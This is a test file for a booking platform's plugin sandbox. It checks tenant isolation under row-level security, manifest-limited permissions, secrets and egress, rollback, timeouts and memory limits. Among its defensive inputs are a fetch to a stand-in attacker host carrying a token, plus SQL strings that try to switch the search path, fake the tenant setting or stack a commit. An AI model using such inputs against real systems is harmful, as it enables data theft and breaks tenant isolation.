import { bookingConfirmed, bookingRequested } from '@convoy/booking/contract';
import type { Actor, RequestContext, TenantContext } from '@convoy/platform/context';
import { connectOnce, GlobalDb, TenantDb, type TenantTx, writeEvent } from '@convoy/platform/db';
import { DomainError } from '@convoy/platform/errors';
import { defineEvent } from '@convoy/platform/events';
import {
  type GraphContext,
  GraphSchemaModule,
  GraphSchemas,
  GraphTypes,
  InnerGraph,
  PluginParts,
} from '@convoy/platform/graphql';
import { JobRegistry, ListenerRegistry, OutboxDispatcher, WorkerLoops } from '@convoy/platform/jobs';
import { definePort } from '@convoy/platform/manifest';
import { OutsideCall } from '@convoy/platform/outside';
import { type PluginLineRefund, PluginLineRefunds, Ports, TrackerIntakes } from '@convoy/platform/ports';
import { aTenant, contextOf, openTestDatabase, type TestDatabase } from '@convoy/platform/testing';
import { definePlugin } from '@convoy/sdk/core';
import { definePluginServer, PluginError, type PluginScope, type PluginServer } from '@convoy/sdk/server';
import { Logger, Module } from '@nestjs/common';
import { NestFactory } from '@nestjs/core';
import { Query, Resolver } from '@nestjs/graphql';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { PluginPools, pluginPassword } from '../plugin-pools.ts';
import { DeliveryQueries } from './events/delivery.queries.ts';
import { PluginDeliveries } from './events/plugin-deliveries.ts';
import { PluginListeners } from './events/plugin-listeners.ts';
import { PluginAnswers } from './plugin-answers.ts';
import { CallPolicies, PluginCaller } from './plugin-caller.ts';
import { orRefused } from './plugin-failed.ts';
import { PluginJobCalls } from './plugin-job-calls.ts';
import { PluginServices } from './plugin-service.ts';
import { PluginScopes } from './scope/plugin-scopes.ts';
import { KnownPlugins } from './testing/known-plugins.ts';

const ID = 'spec-permit';
const SECRET = 'session-secret-of-the-specs-0123456789';
const price = definePort({
  id: 'booking.price-rule.v1',
  answeredBy: 'many',
  question: z.object({ days: z.number() }),
  answer: z.number().int(),
});
const sold = defineEvent('spec-permit.sold.v1', z.object({ zone: z.string() }));
/** An event of a third plugin, as two others believe it to be: the first is wrong. */
const believed = defineEvent('spec-third.told.v1', z.object({ zone: z.number() }));
const told = defineEvent('spec-third.told.v1', z.object({ zone: z.string() }));
const undeclared = defineEvent('spec-permit.lost.v1', z.object({}));
const manifest = definePlugin({
  id: ID,
  version: '1.0.0',
  sdk: '^1.0.0',
  settings: z.object({ zone: z.string().default('a') }),
  secrets: ['apiKey'],
  permissions: ['read:Booking', 'refund-line:Booking'],
  consumes: [bookingRequested, bookingConfirmed, believed],
  emits: [sold],
  offers: [price],
  egress: ['api.permits.example'],
  jobs: [{ name: 'spec-permit.expire', cron: '0 4 * * *' }],
});

/** What the plugin does when it is called; each test says it anew. */
let act: (scope: PluginScope, given?: unknown) => unknown = () => {};
const heard: { tenant: number; type: string; eventId: number }[] = [];
const server = definePluginServer(manifest, ({ on, answer }) => ({
  listeners: [
    ...[bookingRequested, bookingConfirmed].map((event) =>
      on(event, async (scope, payload, { eventId }) => {
        await act(scope, payload);
        heard.push({ tenant: scope.tenant.id, type: event.type, eventId });
      }),
    ),
    on(believed, async (scope, _payload, { eventId }) => {
      heard.push({ tenant: scope.tenant.id, type: believed.type, eventId });
    }),
  ],
  answers: [answer(price, async (scope, question) => (await act(scope, question)) as number)],
  jobs: {
    'spec-permit.expire': async (scope) => {
      await act(scope);
    },
  },
  service: {
    start: async ({ scopeOf }) => {
      const scope = await scopeOf(one.id);
      await act(scope as PluginScope, await scopeOf(other.id));
      return { stop: async () => {} };
    },
  },
})) as unknown as PluginServer;
const otherManifest = definePlugin({
  id: 'spec-other',
  version: '1.0.0',
  sdk: '^1.0.0',
  settings: z.object({}),
  consumes: [bookingRequested, told],
});
const otherHeard: number[] = [];
const otherZones: string[] = [];
const otherServer = definePluginServer(otherManifest, ({ on }) => ({
  listeners: [
    on(bookingRequested, async (_scope, _payload, { eventId }) => void otherHeard.push(eventId)),
    on(told, async (_scope, { zone }) => void otherZones.push(zone)),
  ],
})) as unknown as PluginServer;

@GraphTypes(`extend type Query {
  days: Int @can(action: "read", subject: "Booking")
  names: Int @can(action: "read", subject: "Customer")
  tenant: Id @public
}`)
@Resolver()
class SpecResolver {
  @Query()
  days() {
    return 3;
  }
  @Query()
  names() {
    return 1;
  }
  @Query()
  tenant(_root: unknown, _args: unknown, { ctx }: GraphContext) {
    return ctx.tenant.id;
  }
}

/** The graph of a core that has little, and of a plugin. */
async function specGraph(): Promise<GraphSchemas> {
  @Module({ imports: [GraphSchemaModule], providers: [SpecResolver] })
  class SpecModule {
    constructor(parts: PluginParts) {
      const typeDefs = 'extend type Query { specPermits: Int @public }';
      parts.add({ typeDefs, fields: { specPermits: () => 1 } });
    }
  }
  const app = await NestFactory.createApplicationContext(SpecModule, { logger: false });
  return app.get(GraphSchemas);
}

let database: TestDatabase;
let one: TenantContext;
let other: TenantContext;
let pools: PluginPools;
let scopes: PluginScopes;
let plugins: KnownPlugins;
let caller: PluginCaller;
let deliveries: PluginDeliveries;
let dispatcher: OutboxDispatcher;
const ports = new Ports();
const jobs = new JobRegistry();
const coreHeard: number[] = [];
/** What plugins asked to give back, and at whose brand. */
const ordered: (PluginLineRefund & { tenantId: number })[] = [];
const refunds = new PluginLineRefunds();
refunds.answeredBy(async (ctx, order) => {
  ordered.push({ ...order, tenantId: ctx.tenant.id });
  if (order.code === 'gone')
    throw new DomainError({ code: 'PLUGIN_LINE_NOT_FOUND', status: 404, message: 'There is no such line.' });
  return { leftPence: 5 };
});

beforeAll(async () => {
  // Failures are what is provoked here.
  Logger.overrideLogger(false);
  database = await openTestDatabase();
  [one, other] = await Promise.all([aTenant(database), aTenant(database)]);
  await makeSchema(database);
  pools = new PluginPools(database.url('convoy_app'), SECRET);
  plugins = new KnownPlugins([server, otherServer]);
  scopes = new PluginScopes(
    plugins,
    pools,
    database.db,
    new InnerGraph(await specGraph()),
    new OutsideCall({ http: false, resolve: async () => [{ address: '10.0.0.7', family: 4 }] }),
    refunds,
  );
  const manners = { budgetMs: 300, failures: 2, restMs: 60_000, rests: 1 };
  caller = new PluginCaller(plugins, scopes, {
    interactive: { ...manners, failures: 100 },
    route: manners,
    background: { ...manners, failures: 100 },
  } satisfies CallPolicies);
  const directory = {
    byId: async (id: number) => [one, other].find((t) => t.id === id) ?? null,
    byIdEvenClosed: async () => null,
    activeIds: async () => [],
  };
  const listeners = new ListenerRegistry();
  deliveries = new PluginDeliveries(
    plugins,
    caller,
    new DeliveryQueries(new GlobalDb(database.worker)),
    directory,
    new WorkerLoops(),
  );
  const workerDb = new TenantDb(database.worker);
  new PluginListeners(plugins, workerDb, deliveries, listeners);
  listeners.add({
    name: 'booking.own',
    event: bookingRequested,
    handle: async (_ctx, _payload, { eventId }) => void coreHeard.push(eventId),
  });
  dispatcher = new OutboxDispatcher(database.worker, workerDb, listeners, directory);
  new PluginAnswers(plugins, caller, ports);
  plugins.tenants = [one, other];
  new PluginJobCalls(plugins, caller, jobs);
  services = new PluginServices(plugins, scopes, directory, new TrackerIntakes());
});
let services: PluginServices;
afterAll(async () => {
  await pools.end();
  await database.close();
  await dropRole(database);
});
afterEach(() => {
  act = () => {};
  plugins.switchOff();
  heard.length = 0;
});

/** As the migrate step makes it: a schema and a login role of its own, rows of one tenant at a time. */
async function makeSchema({ cluster, asSuperuser }: TestDatabase): Promise<void> {
  await asSuperuser(`
    drop role if exists plugin_spec_permit;
    create role plugin_spec_permit login password '${pluginPassword(SECRET, ID)}';
    create schema plugin_spec_permit;
    create table plugin_spec_permit.permit (
      tenant_id bigint not null default app.current_tenant(), id bigint generated always as identity, zone text not null,
      primary key (tenant_id, id));
    alter table plugin_spec_permit.permit enable row level security;
    create policy tenant_isolation on plugin_spec_permit.permit
      using (tenant_id = (select app.current_tenant())) with check (tenant_id = (select app.current_tenant()));
    grant usage on schema plugin_spec_permit, app to plugin_spec_permit;
    grant usage on schema plugin_spec_permit to convoy_migrator;
    grant select on plugin_spec_permit.permit to convoy_migrator;
    grant execute on function app.current_tenant(), app.plugin_may_write() to plugin_spec_permit;
    insert into plugin_installation (id, version) values ('${ID}', '1.0.0');
    insert into tenant_plugin (tenant_id, plugin_id, state)
      select id, '${ID}', 'enabled' from tenant where id in (${one.id}, ${other.id});
    grant select, insert, update, delete on plugin_spec_permit.permit to plugin_spec_permit;
    alter role plugin_spec_permit set search_path = plugin_spec_permit;`);
  expect(cluster.template).toBeTruthy();
}
const dropRole = async ({ cluster }: TestDatabase) => {
  const { urlOf } = await import('@convoy/platform/testing');
  const admin = await connectOnce(urlOf(cluster, 'postgres', 'postgres'), () => {});
  await admin.query('drop role if exists plugin_spec_permit');
  await admin.end();
};

const at = (tenant: TenantContext): RequestContext => contextOf(tenant);
const by = (role: Actor['role']): RequestContext =>
  contextOf(one, { id: 1, role, email: 'a@b.example', firstName: 'A', lastName: 'B', language: null });
/** Calls the plugin as a port of a person who waits does, at a brand that has it. */
async function call<T>(tenant: TenantContext, work: (scope: PluginScope) => Promise<T>): Promise<T> {
  const plugin = plugins.switchOn(tenant, ID);
  const outcome = await caller.run('interactive', { ctx: at(tenant), plugin, hook: 'spec' }, work);
  if (outcome.kind !== 'done') throw outcome.kind === 'failed' ? outcome.error : new Error(outcome.kind);
  return outcome.value;
}
const event = (tx: TenantTx, tenant: TenantContext, bookingId: number, definition = bookingRequested) =>
  writeEvent(tx, { tenant }, definition, `booking:${bookingId}`, { bookingId, customerId: 1, vanId: 1 });
async function happen(tenant: TenantContext, bookingId: number): Promise<void> {
  await database.db.write({ tenant }, async (tx) => {
    await event(tx, tenant, bookingId);
    await event(tx, tenant, bookingId, bookingConfirmed);
  });
}
const deliver = async () => {
  while ((await dispatcher.deliverBatch()) + (await deliveries.deliverBatch()) > 0);
};
const due = () => database.rows('update plugin_delivery set available_at = now() where done_at is null');

describe('a scope', () => {
  it('reads and writes the rows of its tenant alone, under the plugin’s own role', async () => {
    for (const tenant of [one, other])
      await call(tenant, (scope) =>
        scope.db.write((tx) => tx.rows('insert into permit (zone) values ($1)', [scope.tenant.slug])),
      );
    for (const tenant of [one, other])
      expect(await call(tenant, (scope) => scope.db.rows('select zone, tenant_id from permit'))).toEqual([
        { zone: tenant.slug, tenant_id: tenant.id },
      ]);
    await expect(
      call(one, (scope) =>
        scope.db.write((tx) =>
          tx.rows('insert into permit (tenant_id, zone) values ($1, $2)', [other.id, 'x']),
        ),
      ),
    ).rejects.toThrow(/row-level security/);
    await expect(call(one, (scope) => scope.db.rows('select * from public.booking'))).rejects.toThrow(
      /permission denied/,
    );
    await expect(
      call(one, (scope) => scope.db.rows('with gone as (delete from permit returning 1) select * from gone')),
    ).rejects.toThrow(/read-only/);
  });

  it('undoes what was written where the work fails or nobody waits any more, and runs no other statements', async () => {
    const zones = () => database.rows("select from plugin_spec_permit.permit where zone = 'undone'");
    const insert = "insert into permit (zone) values ('undone')";
    await expect(
      call(one, (scope) =>
        scope.db.write(async (tx) => {
          await tx.rows(insert);
          throw new Error('changed its mind');
        }),
      ),
    ).rejects.toThrow('changed its mind');
    await expect(
      call(one, (scope) =>
        scope.db.write(async (tx) => {
          await tx.rows(insert);
          await new Promise(() => {});
        }),
      ),
    ).rejects.toThrow('It took longer than 300 ms.');
    for (const sql of [
      'commit',
      'set search_path = public',
      "select set_config('app.tenant_id', '1', true)",
      'select 1; commit',
    ])
      await expect(call(one, (scope) => scope.db.write((tx) => tx.rows(sql)))).rejects.toThrow();
    expect(await zones()).toEqual([]);
  });

  it('asks for a refund of its own line by its permission alone, in its own name and at its own brand', async () => {
    const refund = { bookingId: 7, code: 'permit', pence: 150, key: 'permit-7' };
    ordered.length = 0;
    expect(await call(one, (scope) => scope.refundLine(refund))).toEqual({ leftPence: 5 });
    await call(other, (scope) => scope.refundLine(refund));
    expect(ordered).toEqual([
      { ...refund, pluginId: ID, tenantId: one.id },
      { ...refund, pluginId: ID, tenantId: other.id },
    ]);
    await expect(call(one, (scope) => scope.refundLine({ ...refund, code: 'gone' }))).rejects.toMatchObject({
      name: 'CoreRefusedError',
      code: 'PLUGIN_LINE_NOT_FOUND',
      message: 'There is no such line.',
    });
    for (const wrong of [{ pence: 0 }, { pence: -1 }, { pence: 0.5 }, { key: '' }, { bookingId: 0 }])
      await expect(call(one, (scope) => scope.refundLine({ ...refund, ...wrong }))).rejects.toThrow(
        RangeError,
      );
    const scope = scopes.open({
      ctx: at(one),
      plugin: plugins.switchOn(one, 'spec-other'),
      hook: 'spec',
      signal: new AbortController().signal,
    });
    await expect(scope.scope.refundLine(refund)).rejects.toThrow('"refund-line:Booking"');
    expect(ordered).toHaveLength(3);
  });

  it('reads the core with the permissions of the manifest and no others, and not what plugins read', async () => {
    await call(one, async ({ core }) => {
      expect(await core.graph('{ days tenant }')).toEqual({ days: 3, tenant: one.id });
      await expect(core.graph('{ days names }')).rejects.toThrow(
        'The plugin may not read "names": its manifest does not ask for "read:Customer".',
      );
      await expect(core.graph('{ specPermits }')).rejects.toThrow(/Cannot query field/);
      await expect(core.graph('mutation { days }')).rejects.toThrow(/There is no mutation here/);
    });
  });

  it('gives what is declared and nothing else, as the tenant set it', async () => {
    plugins.secrets.set(`${one.id} apiKey`, 'of one');
    await call(one, async (scope) => {
      expect(scope.settings).toEqual({ zone: 'a' });
      expect(scope.secret('apiKey')).toBe('of one');
      expect(() => scope.secret('other' as 'apiKey')).toThrow(
        'The manifest declares no secret called "other".',
      );
      await expect(scope.count('check', '1')).rejects.toThrow('counts nothing called "check"');
      await expect(scope.emit(undeclared, {})).rejects.toThrow('"emits" does not name spec-permit.lost.v1');
      await expect(scope.emit(sold, { zone: 1 as unknown as string })).rejects.toThrow();
      await scope.emit(sold, { zone: 'b' });
      await expect(scope.egress.fetch('https://evil.example/?token=1')).rejects.toThrow('does not name');
      await expect(scope.egress.fetch('http://api.permits.example/')).rejects.toThrow('is not reached');
      await expect(scope.egress.fetch('https://api.permits.example:8443/')).rejects.toThrow('is not reached');
      // The name leads inside.
      await expect(scope.egress.fetch('https://api.permits.example/')).rejects.toThrow('is not reached');
    });
    expect(await call(other, async (scope) => scope.secret('apiKey'))).toBeNull();
    expect(plugins.said.map(({ message }) => message)).toContain(
      'It asked for https://evil.example, which its manifest does not name under "egress".',
    );
    expect(
      await database.rows("select tenant_id, payload from outbox_event where type = 'spec-permit.sold.v1'"),
    ).toEqual([{ tenant_id: one.id, payload: { zone: 'b' } }]);
    await deliver();
  });

  it('writes nothing for who only tries', async () => {
    const plugin = plugins.switchOn(one, ID);
    const ctx = at({ ...one, onlyRead: true });
    const { scope, end } = scopes.open({ ctx, plugin, hook: 'spec', signal: new AbortController().signal });
    const ways: (() => Promise<unknown>)[] = [
      () => scope.db.write((tx) => tx.rows("insert into permit (zone) values ('tried')")),
      () => scope.emit(sold, { zone: 'tried' }),
      () => scope.count('check', '1'),
    ];
    // No failure of the plugin: a refusal, told as it is.
    for (const way of ways)
      expect(await orRefused(way)).toMatchObject({ refusal: { code: 'TEST_KEY_ONLY_READS', status: 403 } });
    expect(await scope.db.rows('select 1 as one')).toEqual([{ one: 1 }]);
    end();
    expect(await database.rows("select from plugin_spec_permit.permit where zone = 'tried'")).toEqual([]);
    expect(await database.rows("select from outbox_event where payload->>'zone' = 'tried'")).toEqual([]);
  });

  it('writes nothing where the plugin was switched off or removed meanwhile, and that is no failure of it', async () => {
    const state = (change: string) =>
      database.rows(`update tenant_plugin set ${change} where tenant_id = $1`, [one.id]);
    await state("state = 'disabled', disabled_because = 'admin'");
    try {
      const plugin = plugins.switchOn(one, ID);
      plugins.failures.length = 0;
      const write = (scope: PluginScope) =>
        scope.db.write((tx) => tx.rows("insert into permit (zone) values ('late')"));
      const late = await caller.run('interactive', { ctx: at(one), plugin, hook: 'spec' }, write);
      expect(late).toMatchObject({ kind: 'failed', why: 'host-error' });
      // Another brand's is its own affair.
      await call(other, write);
      expect(
        await database.rows("select tenant_id from plugin_spec_permit.permit where zone = 'late'"),
      ).toEqual([{ tenant_id: other.id }]);
      expect(plugins.failures).toEqual([]);
    } finally {
      await state("state = 'enabled', disabled_because = null");
    }
  });

  it('ends with its call', async () => {
    const kept = await call(one, async (scope) => scope);
    expect(kept.signal.aborted).toBe(true);
    expect(() => kept.secret('apiKey')).toThrow('The call of this scope has ended');
    await expect(kept.db.rows('select 1')).rejects.toThrow('has ended');
    await expect(kept.emit(sold, { zone: 'b' })).rejects.toThrow('has ended');
  });
});

describe('events', () => {
  it('are told to who has the plugin enabled, once each and in order; a brand without it is told of nothing', async () => {
    plugins.switchOn(one, ID);
    await Promise.all([happen(one, 1), happen(other, 1)]);
    await deliver();
    await due();
    await deliver();
    expect(heard.map(({ tenant, type }) => [tenant, type])).toEqual([
      [one.id, 'booking.requested.v1'],
      [one.id, 'booking.confirmed.v1'],
    ]);
    expect(await database.rows('select from plugin_delivery where tenant_id = $1', [other.id])).toEqual([]);
  });

  it('that a plugin throws at or hangs on are told again, and keep nobody else from theirs', async () => {
    plugins.switchOn(one, ID);
    plugins.switchOn(one, 'spec-other');
    coreHeard.length = 0;
    plugins.failures.length = 0;
    const ways = [() => Promise.reject(new Error('broken')), () => new Promise(() => {})];
    for (const [n, way] of ways.entries()) {
      act = way;
      await happen(one, 20 + n);
      await deliver();
    }
    expect(heard).toEqual([]);
    // The core and the other plugin have heard of both bookings, and the outbox is done with them.
    expect([coreHeard.length, otherHeard.length]).toEqual([2, 2]);
    expect(await database.rows('select from outbox_event where delivered_at is null')).toEqual([]);
    expect(plugins.failures.map(({ message }) => message)).toEqual(['broken', 'It took longer than 300 ms.']);
    act = () => {};
    for (let n = 0; n < 2; n++) {
      await due();
      await deliver();
    }
    // Of each booking in its order.
    const told = heard.toSorted((a, b) => a.eventId - b.eventId).map(({ type }) => type.split('.')[1]);
    expect(told).toEqual(['requested', 'confirmed', 'requested', 'confirmed']);
  });

  it('of a third plugin are read by each as it declares them: one that is wrong keeps no other from hearing', async () => {
    plugins.switchOn(one, ID);
    plugins.switchOn(one, 'spec-other');
    await database.db.write({ tenant: one }, (tx) =>
      writeEvent(tx, { tenant: one }, told, 'spec:1', { zone: 'b' }),
    );
    await deliver();
    expect(otherZones).toEqual(['b']);
    expect(heard).toEqual([]);
    const waiting = await database.rows('select plugin_id from plugin_delivery where done_at is null');
    expect(waiting).toEqual([{ plugin_id: ID }]);
    await database.rows('delete from plugin_delivery where done_at is null');
  });

  it('are not kept for who switched the plugin off meanwhile', async () => {
    plugins.switchOn(one, ID);
    act = () => {
      throw new Error('broken');
    };
    await happen(one, 3);
    await deliver();
    plugins.switchOff();
    await due();
    await deliver();
    expect(await database.rows('select from plugin_delivery where done_at is null')).toEqual([]);
  });
});

describe('a port', () => {
  const ask = (tenant: TenantContext, days = 2) => ports.ask(at(tenant), price, { days });

  it('is answered where the plugin is enabled, by an answer of its shape', async () => {
    plugins.switchOn(one, ID);
    act = (scope, question) => (question as { days: number }).days * (scope as PluginScope).tenant.id;
    expect(await ask(one)).toEqual([{ owner: ID, kind: 'answered', answer: 2 * one.id }]);
    expect(await ask(other)).toEqual([]);
  });

  it('fails for who throws, hangs, answers rubbish or eats memory, in its time; a question of ours that is wrong is not its fault', async () => {
    plugins.switchOn(one, ID);
    const hoard: Buffer[] = [];
    const ways: (() => unknown)[] = [
      () => Promise.reject(new Error('broken')),
      () => new Promise(() => {}),
      () => 'rubbish',
    ];
    plugins.failures.length = 0;
    for (const way of ways) {
      act = way;
      const began = performance.now();
      expect(await ask(one)).toEqual([{ owner: ID, kind: 'failed' }]);
      expect(performance.now() - began).toBeLessThan(2_000);
    }
    expect(plugins.failures).toHaveLength(3);
    // What lies about from before is collected the first time memory is looked at, and hides the first offence.
    act = () => hoard.push(Buffer.alloc(100 * 2 ** 20, 1));
    const outcomes = [await ask(one), await ask(one)].flat().map(({ kind }) => kind);
    expect(outcomes[1]).toBe('failed');
    expect(plugins.failures.at(-1)?.message).toMatch(/^It kept \d+ MB of memory; 64 MB are allowed\.$/);
    const failures = plugins.failures.length;
    expect(await ports.ask(at(one), price, { days: 'two' as unknown as number })).toEqual([
      { owner: ID, kind: 'failed' },
    ]);
    expect(plugins.failures).toHaveLength(failures);
  });
});

describe('a refusal of an answer', () => {
  it('is told as it stands however often, and is no failure: the plugin stays, and rests not', async () => {
    plugins.switchOn(one, ID);
    plugins.failures.length = 0;
    act = () => {
      throw new PluginError('NO_PERMIT', 'No permit of zone {a}.', 404);
    };
    for (let n = 0; n < 10; n++)
      expect(await ports.ask(at(one), price, { days: 1 })).toEqual([
        { owner: ID, kind: 'refused', code: 'NO_PERMIT', sentence: 'No permit of zone {a}.' },
      ]);
    expect(plugins.failures).toEqual([]);
    expect(plugins.givenUp).toEqual([]);
    expect(caller.isResting(ID, one.id)).toBe(false);
  });
});

describe('a job', () => {
  const run = () => jobs.jobs.find(({ name }) => name === 'plugin.spec-permit.expire')!.run();

  it('runs for each tenant that has the plugin, and one that fails stops nobody', async () => {
    plugins.switchOn(one, ID);
    plugins.switchOn(other, ID);
    const ran: number[] = [];
    act = (scope) => {
      ran.push(scope.tenant.id);
      if (scope.tenant.id === one.id) throw new Error('broken');
    };
    await run();
    expect(ran).toEqual([one.id, other.id]);
    plugins.switchOff();
    await run();
    expect(ran).toHaveLength(2);
  });
});

describe('a plugin that fails again and again', () => {
  it('rests, is given up once, and begins anew when it is switched on again', async () => {
    const fails = async () => {
      throw new Error('broken');
    };
    const plugin = plugins.switchOn(one, ID);
    const outcome = (work: () => Promise<unknown>, enabled = plugin) =>
      caller
        .run('route', { ctx: by('operator'), plugin: enabled, hook: 'spec' }, work)
        .then(({ kind }) => kind);
    expect([await outcome(fails), await outcome(fails), await outcome(fails)]).toEqual([
      'failed',
      'failed',
      'resting',
    ]);
    expect(caller.isResting(ID, one.id)).toBe(true);
    expect(caller.isResting(ID, other.id)).toBe(false);
    expect(plugins.givenUp).toEqual([`${one.id} ${ID} spec`]);
    const anew = { ...plugin, since: new Date(plugin.since.getTime() + 1) };
    expect(await outcome(async () => 1, anew)).toBe('done');
  });
});

describe('a plugin that fails for outsiders', () => {
  it('rests for them, one hook at a time, and is given up for nobody', async () => {
    const plugin = plugins.switchOn(one, ID);
    plugins.givenUp.length = 0;
    caller.forget(ID, one.id);
    const outcome = async (ctx: RequestContext, work: () => Promise<unknown>, hook = 'GET /bookings/:id') =>
      (await caller.run('route', { ctx, plugin, hook }, work)).kind;
    const fails = async () => {
      throw new Error('invalid input syntax for type bigint: "1.5"');
    };
    const program = { ...by('operator'), actorKind: 'key' as const };
    const kinds: string[] = [];
    for (const ctx of [by('customer'), at(one), by('customer'), program])
      kinds.push(await outcome(ctx, fails));
    expect(kinds).toEqual(['failed', 'failed', 'resting', 'resting']);
    expect(plugins.givenUp).toEqual([]);
    expect(await outcome(by('customer'), async () => 1, 'GET /offer')).toBe('done');
    expect(await outcome(by('operator'), async () => 1)).toBe('done');
    caller.forget(ID, one.id);
    expect(await outcome(by('customer'), async () => 1)).toBe('done');
  });
});

describe('a process of its own', () => {
  it('has scopes of the tenants that have the plugin, and ends', async () => {
    plugins.switchOn(one, ID);
    let scopes: unknown[] = [];
    act = (...given) => {
      scopes = given;
    };
    const service = await services.start(ID, { port: 4000 });
    expect(scopes).toMatchObject([{ tenant: { id: one.id } }, null]);
    await service.stop();
    expect((scopes[0] as PluginScope).signal.aborted).toBe(true);
    await expect(services.start('spec-other', { port: 4000 })).rejects.toThrow('has no process of its own');
    await expect(services.start('nobody', { port: 4000 })).rejects.toThrow('No plugin "nobody" is installed');
  });
});
